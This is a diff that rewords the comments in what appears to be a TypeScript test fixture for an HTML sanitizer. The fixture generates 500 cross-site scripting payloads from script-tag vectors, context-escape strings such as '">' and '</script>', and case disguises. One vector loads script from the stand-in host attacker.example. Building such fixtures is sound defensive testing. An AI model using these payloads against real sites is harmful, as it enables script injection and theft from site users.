@@ -1,7 +1,7 @@
-/** What the payloads ask for, and what no page may ever ask. */
+/** The attacker's server, which no page may ever contact. */
 export const ATTACKER = "https://attacker.example";
 
-/** Each calls `ran` with its number, marks an element or asks the attacker's server for something. */
+/** Each payload calls `ran` with its number, marks an element or contacts the attacker's server. */
 const vectors: readonly ((call: string) => string)[] = [
   (call) => `<script data-attack>${call}</script>`,
   (call) => `<script data-attack src="${ATTACKER}/x.js">${call}</script>`,
@@ -31,7 +31,7 @@ const vectors: readonly ((call: string) => string)[] = [
   (call) => `\${${call}}`,
 ];
 
-/** What a payload first has to get out of. */
+/** The ways out of the context in which the text may be inserted. */
 const ways = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", '" x="'];
 
 const disguises: readonly ((html: string) => string)[] = [
@@ -40,7 +40,7 @@ const disguises: readonly ((html: string) => string)[] = [
     html.replace(/<(\w)(\w*) /g, (_, first: string, rest: string) => `<${first.toUpperCase()}${rest}\n/`),
 ];
 
-/** 500 texts, each of which runs a script, marks an element or calls elsewhere wherever it is taken for HTML. */
+/** 500 texts, each of which runs a script, marks an element or contacts another server if it is treated as HTML. */
 export const payloads: readonly string[] = vectors.flatMap((vector, v) =>
   ways.flatMap((way, w) =>
     disguises.map(
